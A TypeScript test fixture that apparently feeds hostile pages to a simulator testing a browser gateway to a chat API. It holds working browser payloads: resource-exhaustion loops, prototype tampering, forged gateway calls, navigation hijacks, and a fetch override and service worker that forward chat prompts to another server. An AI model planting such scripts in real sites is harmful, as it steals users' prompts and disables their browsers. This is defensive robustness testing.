import type { SitePage } from "../../src/simulator/site-page.ts";

/** What a page of the site does to the browser, to the gateway, or to get at prompts. */
export interface HostilePage {
  readonly name: string;
  /** Runs in the page while it loads. `elsewhere`: another server that takes prompts as well. */
  readonly script: (elsewhere: string) => string;
  /** What it loads besides. */
  readonly pages?: (elsewhere: string) => Readonly<Record<string, SitePage>>;
}

const SCRIPT_TYPE = { "content-type": "text/javascript" };
const always = (work: string, everyMs = 10): string => `setInterval(() => { ${work} }, ${everyMs});`;
const inWorker = (work: string): string =>
  `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(work)}], { type: "text/javascript" })));`;

export const HOSTILE_PAGES: readonly HostilePage[] = [
  { name: "lines for the console without end", script: () => always(`console.log("x".repeat(100_000), {})`, 1) },
  { name: "a worker's line of 60 MB", script: () => inWorker(`console.log("x".repeat(60_000_000))`) },
  {
    name: "errors of 1 MB, thrown and refused",
    script: () => always(`Promise.reject(new Error("x".repeat(1_000_000))); throw new Error("y".repeat(1_000_000))`),
  },
  { name: "dialogs", script: () => always(`alert(1); confirm(2); prompt(3)`) },
  {
    name: "popups",
    script: () => always(`open("/popup"); open("/popup", "", "noopener"); open("about:blank", "named")`),
  },
  {
    name: "downloads",
    script: () =>
      always(`const link = document.createElement("a"); link.download = "x";
        link.href = URL.createObjectURL(new Blob(["x".repeat(1_000_000)])); link.click()`),
  },
  { name: "workers", script: () => `let left = 60; ${always(`if (left-- > 0) ${inWorker("for (;;) {}")}`)}` },
  {
    name: "history entries of 1 MB",
    script: () => always(`history.pushState({}, "", "#" + Math.random() + "x".repeat(1_000_000)); location.hash = "y"`),
  },
  { name: "reloads in mid-answer", script: () => `setTimeout(() => location.reload(), 700);` },
  {
    name: "navigations within the site",
    script: () => `setTimeout(() => { location.href = "/zh?" + Math.random() }, 300 + 900 * Math.random());`,
  },
  { name: "another server in mid-answer", script: (to) => `setTimeout(() => { location.href = "${to}/zh" }, 800);` },
  {
    name: "another server at once",
    script: (to) => `if (Math.random() < 0.5) location.replace("${to}/zh");`,
  },
  { name: "a base at another server", script: (to) => `document.write('<base href="${to}/">');` },
  {
    name: "beforeunload that stays",
    script: () => `addEventListener("beforeunload", (event) => { event.preventDefault(); event.returnValue = "stay" });
      addEventListener("unload", () => { const end = Date.now() + 2_000; while (Date.now() < end); });`,
  },
  {
    name: "built-ins that are replaced",
    script: (
      to,
    ) => `const away = (address, init) => Reflect.apply(sent, window, ["${to}" + new URL(address, location).pathname, init]);
      const sent = fetch; fetch = away; Promise.prototype.then = () => { throw 1 }; JSON.parse = () => "forged"; JSON.stringify = () => "forged";
      TextDecoder.prototype.decode = () => "forged"; ReadableStream.prototype.getReader = () => { throw 1 };
      Object.defineProperty(Object.prototype, "body", { set() { throw 1 } }); Map.prototype.get = () => ({});
      Function.prototype.call = Function.prototype.apply = () => "forged"; Array.prototype[Symbol.iterator] = undefined;`,
  },
  {
    name: "calls of whatever may be the gateway's",
    script: () => `const forged = "00000000-0000-4000-8000-000000000000" + "t" + "1 forged";
      ${always(`for (const name of ["tell", "agent", "gateway", "__playwright__binding__", ...Object.getOwnPropertyNames(window).slice(-20)]) {
        try { window[name](forged) } catch {} try { window[name].acknowledge(forged, 1e9) } catch {} }`)}`,
  },
  {
    name: "memory, without end",
    script: () =>
      `const hoard = []; ${always(`if (hoard.length < 60) hoard.push(new Uint8Array(10_000_000).fill(1))`)}`,
  },
  {
    name: "storage, without end",
    script:
      () => `caches.open("hoard").then((cache) => { let n = 0; ${always(`cache.put("/h/" + n++, new Response(new Uint8Array(1_000_000))).catch(() => {})`)} });
      const opened = indexedDB.open("hoard"); opened.onupgradeneeded = () => opened.result.createObjectStore("h", { autoIncrement: true });
      opened.onsuccess = () => { ${always(`try { opened.result.transaction("h", "readwrite").objectStore("h").add("x".repeat(1_000_000)) } catch {}`)} };
      try { for (let n = 0; ; n += 1) localStorage.setItem(n, "x".repeat(100_000)) } catch {}`,
  },
  {
    name: "WebSockets that are flooded",
    script: () =>
      `for (const bytes of [1_000, 65_536, 65_536, 8_000_000]) new WebSocket("wss://" + location.host + "/flood?bytes=" + bytes);`,
  },
  {
    name: "a main thread that spins for a while",
    script: () => always(`const end = Date.now() + 900; while (Date.now() < end);`, 1_000),
  },
  { name: "a main thread that spins for ever", script: () => `setTimeout(() => { for (;;); }, 600);` },
  {
    name: "a service worker that answers prompts",
    script: () => `navigator.serviceWorker.register("/worker.js").catch(() => {});`,
    pages: (to) => ({
      "/worker.js": {
        headers: SCRIPT_TYPE,
        body: `oninstall = () => skipWaiting(); onactivate = (event) => event.waitUntil(clients.claim());
          onfetch = (event) => { if (new URL(event.request.url).pathname === "/api/chatWithText")
            event.respondWith(event.request.text().then((body) => fetch("${to}/api/chatWithText", { method: "POST", body, mode: "cors" }))) }`,
      },
    }),
  },
  {
    name: "requests of its own that are answered without end",
    script:
      () => `for (let n = 0; n < 6; n += 1) fetch("/api/chatWithText", { method: "POST", headers: { "content-type": "text/plain;charset=UTF-8" },
      body: JSON.stringify({ prompt: '@sim {"hugeBytes":1000000000}' }) }).then((response) => response.body.pipeTo(new WritableStream())).catch(() => {});`,
  },
  {
    name: "frames, and one that takes the window along",
    script: (
      to,
    ) => `addEventListener("load", () => { for (let n = 0; n < 100; n += 1) document.body.append(document.createElement("iframe"));
      const frame = document.createElement("iframe"); frame.srcdoc = "<script>setTimeout(() => { top.location = '${to}' }, 900)</" + "script>"; document.body.append(frame) });`,
  },
  {
    name: "cookies without end",
    script: () => always(`document.cookie = "hoard" + Math.random() + "=" + "x".repeat(3_000) + "; path=/; secure"`),
  },
  { name: "titles of 1 MB", script: () => always(`document.title = Math.random() + "x".repeat(1_000_000)`, 1) },
];

/** Pages of a site that does all of this at once, by path. */
export function pagesOf(hostile: readonly HostilePage[], elsewhere: string): Readonly<Record<string, SitePage>> {
  const scripts = hostile.map(({ script }) => `<script>${script(elsewhere)}</script>`).join("\n");
  const further = hostile.flatMap(({ pages }) => Object.entries(pages?.(elsewhere) ?? {}));
  const home: SitePage = { body: `<!doctype html><meta charset="utf-8"><title>hostile</title><body>${scripts}hello` };
  return { ...Object.fromEntries(further), "/zh": home, "/popup": { body: `<script>open("/popup")</script>` } };
}
